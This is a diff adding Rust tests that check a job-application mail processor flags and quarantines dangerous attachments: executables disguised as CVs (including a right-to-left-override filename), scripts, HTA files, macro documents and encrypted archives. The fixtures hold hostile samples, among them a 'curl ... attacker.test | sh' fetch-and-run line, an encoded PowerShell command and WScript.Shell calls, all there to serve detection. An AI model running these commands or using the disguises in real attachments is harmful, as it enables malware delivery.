@@ -366,3 +366,238 @@ fn a_truncated_attachment_at_the_top_level_is_decoded_too() {
     let d = doc_named(&app, "CV.pdf");
     assert!(cv.starts_with(&d.bytes) && d.bytes.len() > 200, "{:?}", String::from_utf8_lossy(&d.bytes[..20]));
 }
+
+// ---------------------------------------------------------------------------------------------
+// Item 16: executables and dangerous attachments.
+
+use mailroom::understand::Attention;
+use mailroom::understand::sniff::Danger;
+
+fn file_as_other() -> Rules {
+    rules_with("[limits]\ndangerous = \"file_as_other\"")
+}
+
+fn quarantine_them() -> Rules {
+    rules_with("[limits]\ndangerous = \"quarantine\"")
+}
+
+/// A Windows program as a linker writes it: MZ stub, "This program cannot be run in DOS mode",
+/// a PE header at e_lfanew.
+fn windows_program() -> Vec<u8> {
+    let mut v = vec![0u8; 512];
+    v[..2].copy_from_slice(b"MZ");
+    v[0x3c] = 0x80;
+    v[0x4e..0x4e + 39].copy_from_slice(b"This program cannot be run in DOS mode.");
+    v[0x80..0x84].copy_from_slice(b"PE\0\0");
+    v
+}
+
+/// A stored (uncompressed) ZIP, as the tests need one: `(path, bytes, encrypted flag)`.
+fn zip(members: &[(&str, &[u8], bool)]) -> Vec<u8> {
+    let mut out = Vec::new();
+    let mut central = Vec::new();
+    for (path, data, encrypted) in members {
+        let crc = crc32fast::hash(data);
+        let flags: u16 = if *encrypted { 1 } else { 0 };
+        let offset = out.len() as u32;
+        out.extend_from_slice(b"PK\x03\x04\x14\0");
+        out.extend_from_slice(&flags.to_le_bytes());
+        out.extend_from_slice(&[0, 0, 0, 0, 0x21, 0]);
+        for v in [crc, data.len() as u32, data.len() as u32] {
+            out.extend_from_slice(&v.to_le_bytes());
+        }
+        out.extend_from_slice(&(path.len() as u16).to_le_bytes());
+        out.extend_from_slice(&[0, 0]);
+        out.extend_from_slice(path.as_bytes());
+        out.extend_from_slice(data);
+        central.extend_from_slice(b"PK\x01\x02\x14\0\x14\0");
+        central.extend_from_slice(&flags.to_le_bytes());
+        central.extend_from_slice(&[0, 0, 0, 0, 0x21, 0]);
+        for v in [crc, data.len() as u32, data.len() as u32] {
+            central.extend_from_slice(&v.to_le_bytes());
+        }
+        central.extend_from_slice(&(path.len() as u16).to_le_bytes());
+        central.extend_from_slice(&[0; 12]);
+        central.extend_from_slice(&offset.to_le_bytes());
+        central.extend_from_slice(path.as_bytes());
+    }
+    let cd_offset = out.len() as u32;
+    out.extend_from_slice(&central);
+    out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
+    out.extend_from_slice(&(members.len() as u16).to_le_bytes());
+    out.extend_from_slice(&(members.len() as u16).to_le_bytes());
+    out.extend_from_slice(&(central.len() as u32).to_le_bytes());
+    out.extend_from_slice(&cd_offset.to_le_bytes());
+    out.extend_from_slice(&[0, 0]);
+    out
+}
+
+const DOCX_TYPE: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
+
+fn docx(with_macros: bool) -> Vec<u8> {
+    let body = b"<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>Curriculum vitae</w:t></w:r></w:p></w:body></w:document>";
+    let mut members: Vec<(&str, &[u8], bool)> =
+        vec![("[Content_Types].xml", b"<?xml version=\"1.0\"?><Types/>", false), ("word/document.xml", body, false)];
+    if with_macros {
+        members.push(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1macro", false));
+    }
+    zip(&members)
+}
+
+fn attachment(name: &str, ctype: &str, bytes: &[u8]) -> (String, String) {
+    let encoded: String = name
+        .bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() || b"._-".contains(&b) { (b as char).to_string() } else { format!("%{b:02X}") }
+        })
+        .collect();
+    (
+        format!(
+            "Content-Type: {ctype}\r\nContent-Disposition: attachment; filename*=utf-8''{encoded}\r\n\
+             Content-Transfer-Encoding: base64"
+        ),
+        b64(bytes),
+    )
+}
+
+fn with_letter(dangerous: (String, String)) -> Vec<u8> {
+    mixed(&[attachment("Lettre de motivation.pdf", "application/pdf", &binary_pdf(20)), dangerous])
+}
+
+/// The document holding these bytes.
+fn doc_with<'a>(app: &'a Application, bytes: &[u8]) -> &'a Document {
+    app.documents.iter().find(|d| d.bytes == bytes).unwrap_or_else(|| panic!("not found in {:?}", names(app)))
+}
+
+fn assert_flagged(raw: &[u8], bytes: &[u8], danger: Danger, what: &str) {
+    let app = application(raw, &file_as_other());
+    let d = doc_with(&app, bytes);
+    assert_eq!(d.danger, Some(danger), "{what}: {}", d.reason);
+    assert_eq!(d.kind, DocKind::Other, "{what}: {}", d.reason);
+    assert!(!d.also_cover_letter, "{what}");
+    assert!(app.missing.contains(&DocKind::Cv), "{what}: a dangerous file never stands for the CV");
+    assert_eq!(app.attention(), Some(Attention::DangerousAttachment), "{what}");
+    match understand(raw, None, &quarantine_them()) {
+        Understood::Quarantine(q) => {
+            assert_eq!(q.attention, Some(Attention::DangerousAttachment), "{what}");
+            assert!(q.reason.contains("dangerous"), "{what}: {}", q.reason);
+        }
+        Understood::Application(_) => panic!("{what}: not quarantined under dangerous = \"quarantine\""),
+    }
+}
+
+#[test]
+fn the_right_to_left_override_trick_is_not_a_cv() {
+    // "CV" + U+202E RIGHT-TO-LEFT OVERRIDE + "fdp.exe" shows as "CVexe.pdf" in a mail client.
+    let exe = windows_program();
+    let raw = with_letter(attachment("CV\u{202E}fdp.exe", "application/pdf", &exe));
+    assert_flagged(&raw, &exe, Danger::Executable, "CV\\u202Efdp.exe");
+    let app = application(&raw, &file_as_other());
+    let root = tempfile::tempdir().unwrap();
+    let filed = mailroom::filing::Filer::new(root.path()).file_application(&app, &raw, &[]).unwrap();
+    let filed_names: Vec<String> = filed.application.documents.iter().filter_map(|d| d.filename.clone()).collect();
+    assert!(!filed_names.iter().any(|n| n.starts_with("CV - ")), "{filed_names:?}");
+    // Even with a harmless-looking body, the name alone is enough.
+    let raw = with_letter(attachment("CV\u{202E}fdp.exe", "application/octet-stream", &binary_pdf(21)));
+    assert_flagged(&raw, &binary_pdf(21), Danger::Executable, "a PDF named .exe");
+}
+
+#[test]
+fn a_program_named_like_a_cv_is_known_by_its_content() {
+    let exe = windows_program();
+    for (name, ctype) in [("CV Jeanne Dupre.pdf", "application/pdf"), ("Jeanne_Dupre.pdf", "application/pdf")] {
+        assert_flagged(&with_letter(attachment(name, ctype, &exe)), &exe, Danger::Executable, name);
+    }
+    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".repeat(8);
+    assert_flagged(&with_letter(attachment("CV.docx", DOCX_TYPE, &elf)), &elf, Danger::Executable, "ELF");
+}
+
+#[test]
+fn scripts_by_name_or_by_content() {
+    let js = b"var sh = new ActiveXObject(\"WScript.Shell\"); sh.Run(\"calc\");".to_vec();
+    for name in ["CV.js", "CV.pdf.vbs", "CV.ps1", "CV.bat", "CV.cmd", "CV.jse"] {
+        assert_flagged(&with_letter(attachment(name, "text/plain", &js)), &js, Danger::Script, name);
+    }
+    let sh = b"#!/bin/sh\ncurl -s http://attacker.test/x | sh\n".to_vec();
+    assert_flagged(&with_letter(attachment("CV.txt", "text/plain", &sh)), &sh, Danger::Script, "shebang");
+    let bat = b"@echo off\r\npowershell -EncodedCommand SQBFAFgA\r\n".to_vec();
+    assert_flagged(&with_letter(attachment("CV.txt", "text/plain", &bat)), &bat, Danger::Script, "batch");
+    let hta = b"<html><head><HTA:APPLICATION ID=\"cv\" WINDOWSTATE=\"minimize\"><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"cmd\"</script></head></html>".to_vec();
+    for name in ["CV.hta", "CV.html"] {
+        assert_flagged(&with_letter(attachment(name, "text/html", &hta)), &hta, Danger::HtmlApplication, name);
+    }
+}
+
+#[test]
+fn macro_enabled_office_files_are_never_the_cv() {
+    let with_macros = docx(true);
+    assert_flagged(
+        &with_letter(attachment("CV.docx", DOCX_TYPE, &with_macros)),
+        &with_macros,
+        Danger::Macros,
+        "vbaProject.bin",
+    );
+    let plain = docx(false);
+    assert_flagged(&with_letter(attachment("CV.docm", DOCX_TYPE, &plain)), &plain, Danger::Macros, ".docm");
+    // The same DOCX without macros and with an honest name is the CV.
+    let app = application(&with_letter(attachment("CV.docx", DOCX_TYPE, &plain)), &file_as_other());
+    assert_eq!(doc_with(&app, &plain).kind, DocKind::Cv);
+    assert_eq!(doc_with(&app, &plain).danger, None);
+    assert_eq!(app.attention(), None);
+}
+
+#[test]
+fn encrypted_archives_and_pdfs_that_ask_for_a_password_are_flagged() {
+    let locked = zip(&[("CV.pdf", &binary_pdf(22), true)]);
+    assert_flagged(&with_letter(attachment("CV.zip", "application/zip", &locked)), &locked, Danger::Encrypted, "zip");
+    let sniff = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/sniff");
+    let locked_pdf = std::fs::read(sniff.join("locked-r6.pdf")).unwrap();
+    assert_flagged(
+        &with_letter(attachment("CV.pdf", "application/pdf", &locked_pdf)),
+        &locked_pdf,
+        Danger::Encrypted,
+        "PDF with a user password",
+    );
+    // Restrictions without a password to open: an ordinary CV.
+    let open_pdf = std::fs::read(sniff.join("open-r4.pdf")).unwrap();
+    let app = application(&with_letter(attachment("CV.pdf", "application/pdf", &open_pdf)), &quarantine_them());
+    assert_eq!((doc_with(&app, &open_pdf).kind, doc_with(&app, &open_pdf).danger), (DocKind::Cv, None));
+}
+
+#[test]
+fn a_program_inside_a_zip_is_flagged_and_the_rest_is_filed() {
+    let exe = windows_program();
+    let archive = zip(&[("CV.pdf", &binary_pdf(23), false), ("setup.exe", &exe, false)]);
+    let raw = with_letter(attachment("candidature.zip", "application/zip", &archive));
+    let app = application(&raw, &file_as_other());
+    assert_eq!(doc_with(&app, &binary_pdf(23)).kind, DocKind::Cv);
+    assert_eq!(doc_with(&app, &exe).danger, Some(Danger::Executable));
+    assert_eq!(app.attention(), Some(Attention::DangerousAttachment));
+}
+
+#[test]
+fn the_default_is_to_quarantine() {
+    let raw = with_letter(attachment("CV.pdf", "application/pdf", &windows_program()));
+    match understand(&raw, None, &rules_with("")) {
+        Understood::Quarantine(q) => assert_eq!(q.attention, Some(Attention::DangerousAttachment)),
+        Understood::Application(_) => panic!("the default must quarantine a message carrying a program"),
+    }
+}
+
+#[test]
+fn an_ordinary_application_carries_no_flag() {
+    let app = application(&simple_application(), &quarantine_them());
+    assert_eq!(app.attention(), None);
+    assert!(app.documents.iter().all(|d| d.danger.is_none()));
+}
+
+#[test]
+fn a_bad_dangerous_setting_names_its_key() {
+    let base =
+        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/mailroom.toml")).unwrap();
+    let err =
+        Config::from_toml(&format!("[limits]\ndangerous = \"delete\"\n{base}"), Path::new("/"), std::iter::empty())
+            .unwrap_err()
+            .to_string();
+    assert!(err.contains("dangerous"), "{err}");
+}
